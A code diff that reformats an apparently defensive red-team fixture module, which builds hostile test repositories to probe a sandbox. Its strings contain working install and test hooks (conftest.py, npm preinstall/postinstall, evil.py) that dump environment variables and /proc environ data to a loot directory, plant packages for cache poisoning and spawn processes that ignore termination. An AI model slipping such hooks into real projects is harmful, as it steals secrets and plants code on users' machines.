@@ -7,10 +7,12 @@ import { asset, type RepoSpec } from "./redteam.ts";
 const PY_BUG = {
   "calc.py": "def add(a, b):\n    return a - b\n",
   "tests/__init__.py": "",
-  "tests/test_calc.py": "from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n\n\ndef test_add_zero():\n    assert add(4, 0) == 4\n",
+  "tests/test_calc.py":
+    "from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n\n\ndef test_add_zero():\n    assert add(4, 0) == 4\n",
 };
 
-const PY_PRELUDE = "import os\nimport sys\n\nROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))\nsys.path.insert(0, ROOT)\nimport rtlib  # noqa: E402\n\n";
+const PY_PRELUDE =
+  "import os\nimport sys\n\nROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))\nsys.path.insert(0, ROOT)\nimport rtlib  # noqa: E402\n\n";
 
 /** Python: /proc, env, writes everywhere, data dir, git planting, egress, a daemon, conftest.py and a setup.cfg plugin. */
 export function pyHostile(): RepoSpec {
@@ -20,10 +22,12 @@ export function pyHostile(): RepoSpec {
       ...PY_BUG,
       "rtlib.py": asset("rtlib.py"),
       // Runs at collection, before any test: the earliest code a repository controls.
-      "conftest.py": 'import os\nimport rtlib\n\nRESULT = {"writes": rtlib.write_outside("conftest-%d" % os.getpid()), "env": rtlib.scan_env()["hits"]}\n',
+      "conftest.py":
+        'import os\nimport rtlib\n\nRESULT = {"writes": rtlib.write_outside("conftest-%d" % os.getpid()), "env": rtlib.scan_env()["hits"]}\n',
       // setup.cfg loads a plugin of the repository's own through addopts.
       "setup.cfg": "[tool:pytest]\naddopts = -p rt_plugin\npythonpath = .\n",
-      "rt_plugin.py": 'import os\nimport rtlib\n\nRESULT = {"writes": rtlib.write_outside("setupcfg-%d" % os.getpid())}\n',
+      "rt_plugin.py":
+        'import os\nimport rtlib\n\nRESULT = {"writes": rtlib.write_outside("setupcfg-%d" % os.getpid())}\n',
       "tests/test_zz_attacks.py":
         PY_PRELUDE +
         [
@@ -121,7 +125,8 @@ export function pyHonest(): RepoSpec {
 
 const JS_BUG = {
   "calc.js": "function add(a, b) {\n  return a - b;\n}\n\nmodule.exports = { add };\n",
-  "test/calc.test.js": 'const test = require("node:test");\nconst assert = require("node:assert");\nconst { add } = require("../calc.js");\n\ntest("adds", () => {\n  assert.strictEqual(add(2, 3), 5);\n});\n\ntest("adds zero", () => {\n  assert.strictEqual(add(4, 0), 4);\n});\n',
+  "test/calc.test.js":
+    'const test = require("node:test");\nconst assert = require("node:assert");\nconst { add } = require("../calc.js");\n\ntest("adds", () => {\n  assert.strictEqual(add(2, 3), 5);\n});\n\ntest("adds zero", () => {\n  assert.strictEqual(add(4, 0), 4);\n});\n',
 };
 
 /**
@@ -156,13 +161,21 @@ export function jsHostile(): RepoSpec {
         "",
       ].join("\n"),
       "rtlib.cjs": asset("rtlib.js.txt"),
-      "lifecycle.cjs": 'const fs = require("node:fs");\nconst path = require("node:path");\nconst conf = JSON.parse(fs.readFileSync(path.join(__dirname, "rtconf.json"), "utf8"));\ntry {\n  fs.writeFileSync(path.join(conf.loot, `lifecycle-${process.argv[2]}.txt`), JSON.stringify(process.env));\n} catch {}\n',
+      "lifecycle.cjs":
+        'const fs = require("node:fs");\nconst path = require("node:path");\nconst conf = JSON.parse(fs.readFileSync(path.join(__dirname, "rtconf.json"), "utf8"));\ntry {\n  fs.writeFileSync(path.join(conf.loot, `lifecycle-${process.argv[2]}.txt`), JSON.stringify(process.env));\n} catch {}\n',
       "package.json": `${JSON.stringify(
         {
           name: "hostile",
           version: "1.0.0",
           private: true,
-          scripts: { preinstall: lifecycle("preinstall"), postinstall: lifecycle("postinstall"), prepare: lifecycle("prepare"), pretest: lifecycle("pretest"), test: `${lifecycle("test-prefix")} && node --test`, posttest: lifecycle("posttest") },
+          scripts: {
+            preinstall: lifecycle("preinstall"),
+            postinstall: lifecycle("postinstall"),
+            prepare: lifecycle("prepare"),
+            pretest: lifecycle("pretest"),
+            test: `${lifecycle("test-prefix")} && node --test`,
+            posttest: lifecycle("posttest"),
+          },
         },
         null,
         2,
@@ -186,7 +199,7 @@ export function jsHostile(): RepoSpec {
         '  rt.evidence("gitswap", rt.swapGitDir(ROOT)),',
         '  rt.evidence("tamper", { result: rt.tamperFix(ROOT, PROC.environ_hits.map((h) => h[1])) }),',
         "];",
-        "for (const ev of EVIDENCE) test(ev, () => assert.ok(ev.startsWith(\"RTEV:\")));",
+        'for (const ev of EVIDENCE) test(ev, () => assert.ok(ev.startsWith("RTEV:")));',
         "",
         "for (const host of ['127.0.0.1', '::1']) {",
         "  test(`honest http server on ${host}`, async () => {",
@@ -229,7 +242,9 @@ export function pyKiller(tag: string): RepoSpec {
         "",
         "",
         "def test_kill_parent_and_bot():",
-        "    subprocess.Popen([sys.executable, '-c', 'import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(120)', " + JSON.stringify(tag) + "], start_new_session=True)",
+        "    subprocess.Popen([sys.executable, '-c', 'import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(120)', " +
+          JSON.stringify(tag) +
+          "], start_new_session=True)",
         "    for pid in ancestors():",
         "        try:",
         "            with open('/proc/%d/cmdline' % pid, 'rb') as handle:",
@@ -303,10 +318,17 @@ export function envConfig(variable: "NODE_OPTIONS" | "PYTHONSTARTUP", value: str
   return {
     source: js ? "calc.js" : "calc.py",
     files: {
-      ...(js ? { ...JS_BUG, "package.json": '{ "name": "envconfig", "private": true, "scripts": { "test": "node --test" } }\n' } : PY_BUG),
+      ...(js
+        ? {
+            ...JS_BUG,
+            "package.json": '{ "name": "envconfig", "private": true, "scripts": { "test": "node --test" } }\n',
+          }
+        : PY_BUG),
       ".github/autogen.yml": `test:\n  env:\n    ${variable}: ${JSON.stringify(value)}\n`,
-      "evil.py": "import json, os\nconf = json.load(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'rtconf.json')))\nopen(os.path.join(conf['loot'], 'envconfig.txt'), 'w').write(json.dumps(dict(os.environ)))\n",
-      "evil.cjs": 'const fs = require("node:fs");\nconst path = require("node:path");\nconst conf = JSON.parse(fs.readFileSync(path.join(__dirname, "rtconf.json"), "utf8"));\nfs.writeFileSync(path.join(conf.loot, "envconfig.txt"), JSON.stringify(process.env));\n',
+      "evil.py":
+        "import json, os\nconf = json.load(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'rtconf.json')))\nopen(os.path.join(conf['loot'], 'envconfig.txt'), 'w').write(json.dumps(dict(os.environ)))\n",
+      "evil.cjs":
+        'const fs = require("node:fs");\nconst path = require("node:path");\nconst conf = JSON.parse(fs.readFileSync(path.join(__dirname, "rtconf.json"), "utf8"));\nfs.writeFileSync(path.join(conf.loot, "envconfig.txt"), JSON.stringify(process.env));\n',
     },
   };
 }
@@ -370,24 +392,27 @@ export function jsCachePoison(role: "attacker" | "victim"): RepoSpec {
     'const fs = require("node:fs");',
     'const path = require("node:path");',
     'const conf = JSON.parse(fs.readFileSync(path.join(__dirname, "rtconf.json"), "utf8"));',
-    "const tryRead = (p) => { try { return fs.readFileSync(p, \"latin1\"); } catch (e) { return `UNREADABLE ${e.code}`; } };",
+    'const tryRead = (p) => { try { return fs.readFileSync(p, "latin1"); } catch (e) { return `UNREADABLE ${e.code}`; } };',
     "const environ = {};",
     'for (const pid of fs.readdirSync("/proc").filter((n) => /^\\d+$/.test(n))) environ[pid] = tryRead(`/proc/${pid}/environ`);',
     "const writes = {};",
-    "for (const p of [path.join(conf.sentinel, \"victim.txt\"), path.join(conf.data_dir, \"rt-secret.txt\"), path.join(conf.loot, \"install-loot.txt\")]) { try { fs.appendFileSync(p, \"planted by an install script\\n\"); writes[p] = \"WROTE\"; } catch (e) { writes[p] = e.code; } }",
+    'for (const p of [path.join(conf.sentinel, "victim.txt"), path.join(conf.data_dir, "rt-secret.txt"), path.join(conf.loot, "install-loot.txt")]) { try { fs.appendFileSync(p, "planted by an install script\\n"); writes[p] = "WROTE"; } catch (e) { writes[p] = e.code; } }',
     'const dir = path.join(__dirname, "node_modules", "rt-planted");',
     "fs.mkdirSync(dir, { recursive: true });",
     'fs.writeFileSync(path.join(dir, "index.js"), "module.exports = \\"planted by the attacker\\";\\n");',
     'fs.writeFileSync(path.join(dir, "stolen.json"), JSON.stringify({ env: process.env, environ, data_dir: tryRead(path.join(conf.data_dir, "rt-secret.txt")), writes }));',
     "",
   ].join("\n");
-  const probe = 'const test = require("node:test");\nconst assert = require("node:assert");\nconst fs = require("node:fs");\nconst path = require("node:path");\n\ntest("no planted package", () => {\n  const p = path.join(__dirname, "..", "node_modules", "rt-planted", "index.js");\n  assert.ok(!fs.existsSync(p), `PLANTED-FROM-CACHE ${fs.existsSync(p) ? fs.readFileSync(p, "utf8").trim() : ""}`);\n});\n';
+  const probe =
+    'const test = require("node:test");\nconst assert = require("node:assert");\nconst fs = require("node:fs");\nconst path = require("node:path");\n\ntest("no planted package", () => {\n  const p = path.join(__dirname, "..", "node_modules", "rt-planted", "index.js");\n  assert.ok(!fs.existsSync(p), `PLANTED-FROM-CACHE ${fs.existsSync(p) ? fs.readFileSync(p, "utf8").trim() : ""}`);\n});\n';
   return {
     source: "calc.js",
     files: {
       ...JS_BUG,
-      "package.json": '{ "name": "rt-shared", "version": "1.0.0", "private": true, "scripts": { "test": "node --test", "postinstall": "node plant.cjs" } }\n',
-      "package-lock.json": '{ "name": "rt-shared", "version": "1.0.0", "lockfileVersion": 3, "requires": true, "packages": { "": { "name": "rt-shared", "version": "1.0.0" } } }\n',
+      "package.json":
+        '{ "name": "rt-shared", "version": "1.0.0", "private": true, "scripts": { "test": "node --test", "postinstall": "node plant.cjs" } }\n',
+      "package-lock.json":
+        '{ "name": "rt-shared", "version": "1.0.0", "lockfileVersion": 3, "requires": true, "packages": { "": { "name": "rt-shared", "version": "1.0.0" } } }\n',
       "plant.cjs": role === "attacker" ? attacker : "// nothing to do\n",
       "test/probe.test.js": probe,
     },
@@ -424,15 +449,20 @@ export function pyWarmProbe(tag: string): RepoSpec {
     '            second = "connected-open"',
     "    except OSError as e:",
     '        second = "refused-" + type(e).__name__',
-    '    subprocess.Popen(["python3", "-c", "import time; time.sleep(600)", ' + "TAG" + ', "others=%d" % len(others), "second=" + second], start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)',
+    '    subprocess.Popen(["python3", "-c", "import time; time.sleep(600)", ' +
+      "TAG" +
+      ', "others=%d" % len(others), "second=" + second], start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)',
     "",
-  ].join("\n").replace("TAG", JSON.stringify(tag));
+  ]
+    .join("\n")
+    .replace("TAG", JSON.stringify(tag));
   return {
     source: "calc.py",
     files: {
       ...PY_BUG,
       "tests/warm_probe.py": probe,
-      "tests/test_calc.py": "from calc import add\nfrom tests.warm_probe import probe\n\n\ndef test_add():\n    probe()\n    assert add(2, 3) == 5\n\n\ndef test_add_zero():\n    assert add(4, 0) == 4\n",
+      "tests/test_calc.py":
+        "from calc import add\nfrom tests.warm_probe import probe\n\n\ndef test_add():\n    probe()\n    assert add(2, 3) == 5\n\n\ndef test_add_zero():\n    assert add(4, 0) == 4\n",
     },
   };
 }
@@ -495,7 +525,8 @@ export function pyCachePoison(role: "attacker" | "victim"): RepoSpec {
       "requirements.txt": "./vendor/rtpkg\n",
       "vendor/rtpkg/pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
       "vendor/rtpkg/backend.py": backend,
-      "tests/test_probe.py": "import rtpkg\n\n\ndef test_no_planted_package():\n    assert rtpkg.PLANTED is None, 'PLANTED-FROM-CACHE %s' % rtpkg.PLANTED\n",
+      "tests/test_probe.py":
+        "import rtpkg\n\n\ndef test_no_planted_package():\n    assert rtpkg.PLANTED is None, 'PLANTED-FROM-CACHE %s' % rtpkg.PLANTED\n",
     },
   };
 }
